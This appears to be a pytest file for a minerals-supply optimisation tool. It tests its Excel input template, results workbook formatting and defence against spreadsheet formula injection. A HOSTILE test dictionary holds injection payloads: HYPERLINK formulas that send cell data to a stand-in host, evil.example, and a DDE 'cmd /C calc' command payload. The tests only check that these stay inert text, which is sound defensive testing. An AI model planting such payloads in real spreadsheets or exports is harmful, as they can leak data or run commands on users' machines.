"""Excel for analysts: the input template, the results workbook, formula injection.

The template round trip (template -> solve) must give the same objective and
flows as the CSV dataset; results.xlsx must carry the Summary, the analyst
sheets, native charts with explicit colours and formatted named tables; text
from inputs that starts with = + - @ must stay text in the workbooks and be
quoted in every CSV.
"""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from cases import BASE, FIXTURES, ROOT
from critmin.cli import main
from critmin.inputs import schema
from critmin.results import columns
from critmin.writers.excel import write_results_xlsx

HOSTILE = {
    "option": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "project": "@SUM(1+1)",
    "name": '=HYPERLINK("http://evil.example","Lynas")',
    "country_name": "+61-2",
    "source": "-2+3*cmd|' /C calc'!A0",
}


def run_file(folder: Path, data: str, name: str = "case") -> Path:
    """A copy of the base run's policy with another dataset."""
    text = BASE.read_text(encoding="utf-8")
    text = text.replace('name = "base-2030"', f'name = "{name}"').replace('data = "../data/japan-2030"',
                                                                          f'data = "{data}"')
    path = folder / f"{name}.toml"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def solved(tmp_path_factory, base_out):
    """The base run solved from CSV (the session's, copied), and the embedded template solved as a workbook."""
    folder = tmp_path_factory.mktemp("excel")
    shutil.copytree(base_out, folder / "csv")
    assert main(["template", str(folder / "inputs.xlsx")]) == 0
    assert main(["solve", str(run_file(folder, "inputs.xlsx")), "--out", str(folder / "xlsx"), "--quiet"]) == 0
    return folder


# --------------------------------------------------------------------------- the template


@pytest.mark.slow  # > 5 s: kept out of the quick loop (README, Developing)
def test_template_round_trip_gives_the_same_objective_and_flows(solved):
    from_csv = json.loads((solved / "csv" / "summary.json").read_text())
    from_xlsx = json.loads((solved / "xlsx" / "summary.json").read_text())
    assert from_xlsx["status"] == from_csv["status"] == "optimal"
    assert from_xlsx["objective"] == pytest.approx(from_csv["objective"], rel=1e-12)
    assert from_xlsx["minerals"] == from_csv["minerals"]
    assert (solved / "xlsx" / "flows.csv").read_text() == (solved / "csv" / "flows.csv").read_text()


def test_template_has_readme_tables_notes_dropdowns_and_frozen_headers(solved):
    book = openpyxl.load_workbook(solved / "inputs.xlsx")
    assert book.sheetnames[0] == "README"
    readme = "\n".join(str(c.value) for row in book["README"].iter_rows() for c in row if c.value)
    assert "critmin solve" in readme and "data = " in readme
    for table in schema.TABLES:
        assert table.name in readme
    for table in schema.TABLES:
        sheet = book[table.name]
        names = [c.name for c in table.all_columns]
        assert [sheet.cell(2, j).value for j in range(1, len(names) + 1)] == names
        assert all(sheet.cell(2, j).data_type == "s" for j in range(1, len(names) + 1))
        assert str(sheet["A1"].value).startswith("#")  # the units row the reader skips
        excel_table = sheet.tables[f"tbl_{table.name}"]
        assert excel_table.ref.startswith("A2:")
        assert sheet.freeze_panes == "B3"
        assert sheet.auto_filter.ref is None
        for j, column in enumerate(table.all_columns, start=1):
            comment = sheet.cell(2, j).comment.text
            assert column.meaning in comment
            if column.unit:
                assert column.unit in comment and column.unit in sheet.cell(1, j).value
            assert sheet.column_dimensions[openpyxl.utils.get_column_letter(j)].width >= 10
        lists = {str(v.sqref).split(":")[0]: v for v in sheet.data_validations.dataValidation}
        for j, column in enumerate(table.all_columns, start=1):
            if column.references:
                check = lists[f"{openpyxl.utils.get_column_letter(j)}3"]
                assert check.type == "list" and check.formula1 == f"{column.references}_ids"
                source = book.defined_names[f"{column.references}_ids"].attr_text
                assert f"{column.references}!$A$3" in source.replace("'", "")  # fed from the key column of that sheet
    # the default data fills the sheets; a CSV-blank optional cell takes its default
    assert book["supply"]["A3"].value == "li-CHN-blend" and book["supply"]["F3"].value == 109000


@pytest.mark.slow  # > 5 s: kept out of the quick loop (README, Developing)
def test_edited_template_errors_name_sheet_excel_row_and_header(tmp_path, capsys):
    path = tmp_path / "inputs.xlsx"
    assert main(["template", str(path)]) == 0
    capsys.readouterr()
    book = openpyxl.load_workbook(path)
    book["supply"]["E5"] = -1  # unit_cost of the third route, Excel row 5
    book["targets"]["A6"] = "unobtainium"
    book.save(path)
    run = run_file(tmp_path, "inputs.xlsx")

    def errors():
        code = main(["validate", str(run)])
        err = capsys.readouterr().err
        assert code == 2 and "Traceback" not in err
        return err.splitlines()

    lines = errors()
    assert any(line.startswith("error: supply:5:unit_cost: must not be negative (-1)") for line in lines), lines
    assert any(line.startswith("error: targets:6:mineral: unknown mineral") for line in lines), lines
    book["minerals"]["C4"] = "=12*2"  # reference_price of cobalt, as a formula
    book.save(path)
    lines = errors()
    assert any(line.startswith("error: minerals:4:reference_price: formulas are not read") for line in lines), lines


@pytest.mark.slow  # > 5 s: kept out of the quick loop (README, Developing)
def test_template_from_a_workbook_and_bad_usage(tmp_path, capsys):
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert main(["template", str(first), "--from", str(ROOT / "data" / "japan-2030")]) == 0
    assert main(["template", str(second), "--from", str(first)]) == 0
    capsys.readouterr()
    for argv, words in ([["template", str(tmp_path / "out.csv")], ".xlsx"],
                        [["template", str(tmp_path / "c.xlsx"), "--from", str(tmp_path / "nowhere")], "not found"],
                        [["template", str(first), "--from", str(first)], "overwrite"]):
        assert main(argv) == 2
        err = capsys.readouterr().err
        assert err.startswith("error: ") and words in err and "Traceback" not in err
    assert not (tmp_path / "c.xlsx").exists()


# --------------------------------------------------------------------------- results.xlsx


def test_results_workbook_summary_first_with_the_run_facts(solved):
    book = openpyxl.load_workbook(solved / "csv" / "results.xlsx")
    assert book.sheetnames[:2] == ["Summary", "Charts"]
    for title in ("Supply", "Country dependence", "Equity projects", "Stockpile", "Recycling", "Flows",
                  "Costs", "Input supply", "Input minerals"):
        assert title in book.sheetnames
    summary = {row[0].value: row[1].value for row in book["Summary"].iter_rows(max_col=2) if row[0].value}
    document = json.loads((solved / "csv" / "summary.json").read_text())
    manifest = json.loads((solved / "csv" / "manifest.json").read_text())
    assert summary["run"] == "base-2030" and summary["status"] == "optimal"
    assert summary["total annual cost"] == pytest.approx(document["objective"], rel=1e-12)
    assert summary["achieved MIP gap"] == pytest.approx(document["mip_gap"])
    assert summary["data hash (sha256 of inputs)"] == manifest["data_hash"]
    assert summary["solve time (s)"] > 0
    for lever, cost in document["cost_by_lever"].items():
        if cost:
            assert summary[lever] == pytest.approx(cost)
    assert summary["country_cap"] == 0.65 and summary["investment_budget"] == pytest.approx(1.4294e9)
    assert summary["stockpile_days"] == 60


def test_results_sheets_are_named_tables_with_formats_and_no_sheet_filter(solved):
    book = openpyxl.load_workbook(solved / "csv" / "results.xlsx")
    for title in book.sheetnames[2:]:
        sheet = book[title]
        if title == "Chart data":
            continue
        assert sheet.auto_filter.ref is None, title  # filters come from the table
        assert sheet.freeze_panes == "A3", title
        (table,) = sheet.tables.values()
        assert table.ref.startswith("A2:"), title
        assert all(isinstance(sheet.cell(2, j).value, str) for j in range(1, sheet.max_column + 1))
    dependence = book["Country dependence"]
    header = [c.value for c in dependence[2]]
    assert {"share", "cap", "binding"} <= set(header)
    assert dependence.cell(3, header.index("share") + 1).number_format == "0.0%"
    rules = [rule for rng in dependence.conditional_formatting for rule in rng.rules]
    assert any("ISNUMBER" in rule.formula[0] for rule in rules)  # shares at their cap highlighted
    flows = book["Flows"]
    header = [c.value for c in flows[2]]
    assert flows.cell(3, header.index("tonnes") + 1).number_format == "#,##0"
    assert flows.cell(3, header.index("cost") + 1).number_format == "#,##0"
    with open(solved / "csv" / "flows.csv", newline="") as handle:
        expected = list(csv.DictReader(handle))
    assert flows.max_row - 2 == len(expected)
    stock = book["Stockpile"]
    header = [c.value for c in stock[2]]
    for column in ("stockpile_t", "requirement_days", "exposure_days", "existing_stock_t", "build_up_t"):
        assert column in header
    days = stock.cell(3, header.index("exposure_days") + 1).value  # cobalt: 60 days of the requirement (JOGMEC's
    assert days == pytest.approx(60 / 0.65, rel=1e-6)  # floor) over China's 65 % of it, read back
    assert stock.cell(3, header.index("requirement_days") + 1).value == pytest.approx(60, rel=1e-6)
    projects = book["Equity projects"]
    assert {"chosen", "capex", "annualized_capex", "offtake", "annual_cost"} <= {c.value for c in projects[2]}


def test_results_charts_are_native_with_explicit_colours(solved):
    book = openpyxl.load_workbook(solved / "csv" / "results.xlsx")
    charts = book["Charts"]._charts
    assert len(charts) == 3
    for chart in charts:
        assert chart.series
        for series in chart.series:
            assert series.graphicalProperties.solidFill is not None or series.graphicalProperties.line.solidFill
    stacked = charts[0]
    assert stacked.grouping == "stacked" and stacked.overlap == 100
    data = book["Chart data"]
    values = {row[0].value: row for row in data.iter_rows(min_row=5, max_row=11)}
    assert set(values) == {"lithium", "nickel", "cobalt", "graphite", "manganese", "ndpr", "dytb"}
    for row in values.values():  # the stacks add up to what is supplied: 100 % of the requirement
        assert sum(c.value for c in row[1:] if isinstance(c.value, float)) == pytest.approx(1.0, abs=1e-9)


def _undeclared(book) -> dict[str, list[str]]:
    """Per result sheet, the header names results.columns does not declare for it (a sheet that is not
    declared at all: every name)."""
    found = {}
    for sheet in book.worksheets:
        if sheet.title in ("Summary", "Charts", "Chart data") or sheet.title.startswith("Input "):
            continue
        table = columns.for_sheet(sheet.title)
        names = [c.value for c in sheet[2] if c.value is not None]
        missing = table.undeclared(names) if table is not None else names
        if missing:
            found[sheet.title] = missing
    return found


@pytest.mark.slow  # > 5 s: kept out of the quick loop (README, Developing)
def test_every_result_column_is_declared_with_kind_unit_and_meaning(solved, tmp_path, capsys):
    """results.columns declares every column of every result sheet: a solve (with marginal values and
    forced-in costs), a stress run, an infeasible run's diagnosis and a pathway's views.  The header
    comments state each column's meaning and unit, and the number format follows the declared kind."""
    from cases import BASE_TABLES, route, write_dataset

    data = write_dataset(tmp_path / "data", {**BASE_TABLES, "supply": [route("li-AUS-CHN", 12, 80),
                                                                        route("li-CHN-CHN", 10, 60)]})
    pathway = write_dataset(tmp_path / "pathway", {
        **BASE_TABLES, "targets": [dict(mineral="li", year=y, target_t=100) for y in (2030, 2031)],
        "supply": [route("li-AUS-CHN", 12, 80), route("li-CHN-CHN", 10, 60)],
        "projects": [dict(project="p1", name="P1", mine_country="AUS", refine_country="AUS", capex=100,
                          life_years=10, available_from=2031)],
        "project_offtake": [dict(project="p1", mineral="li", offtake_t=50, unit_cost=11)]})
    runs = {"stress": f'name = "s"\ndata = "{data}"\nyear = 2030\n[policy]\ncountry_cap = 1.0\n',
            "infeasible": f'name = "i"\ndata = "{data}"\nyear = 2030\n[policy]\ncountry_cap = 0.5\n',
            "pathway": f'name = "p"\ndata = "{pathway}"\nyears = [2030, 2031]\n[policy]\ncountry_cap = 1.0\n'}
    books = {"solve": solved / "csv" / "results.xlsx"}
    for name, text in runs.items():
        (tmp_path / f"{name}.toml").write_text(text)
        argv = ["stress", str(tmp_path / "stress.toml"), "--n-1"] if name == "stress" else ["solve", str(
            tmp_path / f"{name}.toml")]
        main(argv + ["--out", str(tmp_path / f"out-{name}")])
        books[name] = tmp_path / f"out-{name}" / "results.xlsx"
    capsys.readouterr()
    sheets = set()
    for name, path in books.items():
        book = openpyxl.load_workbook(path)
        assert _undeclared(book) == {}, name
        sheets |= set(book.sheetnames)
    assert {"Stress", "Diagnosis", "Relaxed limits", "Investment timeline", "Stock trajectory", "Shares by year",
            "Marginal values", "Forced-in costs"} <= sheets
    assert all(column.kind in columns.KINDS and column.meaning for table in columns.TABLES
               for column in table.columns)
    book = openpyxl.load_workbook(books["solve"])
    flows = book["Flows"]
    header = [c.value for c in flows[2]]
    cost = flows.cell(2, header.index("cost") + 1).comment.text
    assert "full annual cost" in cost and "unit: USD per year" in cost
    assert "unit: t per year" in flows.cell(2, header.index("tonnes") + 1).comment.text
    stress = openpyxl.load_workbook(books["stress"])["Stress"]
    header = [c.value for c in stress[2]]
    assert stress.cell(3, header.index("probability") + 1).number_format == "0.0%"
    assert stress.cell(3, header.index("duration_days") + 1).number_format == "#,##0.0"
    # an undeclared column of a declared table is found
    assert columns.FLOWS.undeclared(["year", "tonnes", "tied_to_nothing"]) == ["tied_to_nothing"]


def test_input_sheets_take_number_formats_from_the_input_schema(solved):
    book = openpyxl.load_workbook(solved / "csv" / "results.xlsx")
    supply = book["Input supply"]
    header = [c.value for c in supply[2]]
    row = next(r for r in range(3, supply.max_row + 1) if supply.cell(r, header.index("year_from") + 1).value)
    assert supply.cell(row, header.index("year_from") + 1).number_format == "0"  # a year, not "2,030"
    offtake = book["Input project_offtake"]  # every market route is market-linked: the offtakes have unit costs
    row = next(r for r in range(3, offtake.max_row + 1)
               if offtake.cell(r, [c.value for c in offtake[2]].index("unit_cost") + 1).value)
    assert offtake.cell(row, [c.value for c in offtake[2]].index("unit_cost") + 1).number_format == "#,##0"
    minerals = book["Input minerals"]
    header = [c.value for c in minerals[2]]
    assert minerals.cell(3, header.index("holding_cost_rate") + 1).number_format == "0.0%"
    assert minerals.cell(3, header.index("surge_price_factor") + 1).number_format == "#,##0"  # a multiple, not money
    assert "unit: USD per t" in minerals.cell(2, header.index("reference_price") + 1).comment.text


def test_extra_tables_are_rendered_without_touching_the_writer(tmp_path):
    extra = pd.DataFrame({"mineral": ["li", "ni"], "limit": ["cap", "cap"], "value": [12.5, 0.25],
                          "share": [0.5, 0.65], "cap": [0.65, 0.65]}).set_index("mineral")
    extra.attrs["description"] = "What each cap is worth."
    path = tmp_path / "r.xlsx"
    write_results_xlsx(path, [("run", "x"), ("total annual cost", 10.0, "money")], {"Whatever new": extra})
    book = openpyxl.load_workbook(path)
    sheet = book["Whatever new"]
    assert sheet["A1"].value == "What each cap is worth."
    assert [c.value for c in sheet[2]] == ["mineral", "limit", "value", "share", "cap"]
    assert sheet.tables and sheet.freeze_panes == "A3"
    assert sheet["D3"].number_format == "0.0%" and sheet["C3"].number_format == "#,##0.00"
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]


# --------------------------------------------------------------------------- formula injection


def hostile_dataset(tmp_path: Path) -> Path:
    """The tiny fixture with inputs named like formulas: a route, a project, names and sources."""
    data = tmp_path / "hostile"
    shutil.copytree(FIXTURES / "tiny", data)
    supply = (data / "supply.csv").read_text().splitlines()
    header = supply[0].split(",")
    row = dict(zip(header, supply[1].split(",")))
    row.update(option=HOSTILE["option"], max_t="1000", unit_cost="0.5")
    with open(data / "supply.csv", "a", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerow([row[h] for h in header])
    countries = list(csv.DictReader(open(data / "countries.csv", newline="")))
    for c in countries:
        if c["home"] == "true":
            c["name"] = HOSTILE["country_name"]
    with open(data / "countries.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(countries[0]) + ["source"])
        writer.writeheader()
        writer.writerows([{**c, "source": HOSTILE["source"]} for c in countries])
    mine = next(c["country"] for c in countries if c["home"] != "true")
    with open(data / "projects.csv", "w", newline="") as handle:
        csv.writer(handle).writerows([
            ["project", "name", "mine_country", "refine_country", "capex", "life_years", "available_from"],
            [HOSTILE["project"], HOSTILE["name"], mine, mine, "1", "20", "2020"]])
    mineral = next(csv.DictReader(open(data / "minerals.csv", newline="")))["mineral"]
    with open(data / "project_offtake.csv", "w", newline="") as handle:
        csv.writer(handle).writerows([["project", "mineral", "offtake_t", "unit_cost"],
                                      [HOSTILE["project"], mineral, "5", "0.1"]])
    return data


def test_formula_like_input_text_stays_text_in_workbooks_and_is_quoted_in_csv(tmp_path, capsys):
    data = hostile_dataset(tmp_path)
    run = tmp_path / "hostile.toml"
    run.write_text((FIXTURES / "tiny.toml").read_text().replace('data = "tiny"', 'data = "hostile"'))
    out = tmp_path / "out"
    assert main(["solve", str(run), "--out", str(out), "--quiet"]) == 0
    assert main(["template", str(tmp_path / "hostile.xlsx"), "--from", str(data)]) == 0
    capsys.readouterr()
    for workbook in (out / "results.xlsx", tmp_path / "hostile.xlsx"):
        book = openpyxl.load_workbook(workbook)
        found = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{workbook.name}:{sheet.title}!{cell.coordinate} is a formula"
                    if cell.value in HOSTILE.values():
                        found.add(cell.value)
        # every hostile text is there, unchanged and not a formula (so text): none dropped or mangled
        assert found == set(HOSTILE.values()), workbook
    text = (out / "flows.csv").read_text()
    rows = list(csv.reader(text.splitlines()))
    assert all(not field.startswith(("=", "+", "-", "@")) for row in rows for field in row)
    ids = {row[3] for row in rows[1:]}
    assert "'" + HOSTILE["option"] in ids and "'" + HOSTILE["project"] in ids
    # the hostile template solves like the hostile CSV folder
    run.write_text(run.read_text().replace('data = "hostile"', 'data = "hostile.xlsx"'))
    assert main(["solve", str(run), "--out", str(tmp_path / "out2"), "--quiet"]) == 0
    assert (tmp_path / "out2" / "flows.csv").read_text() == text
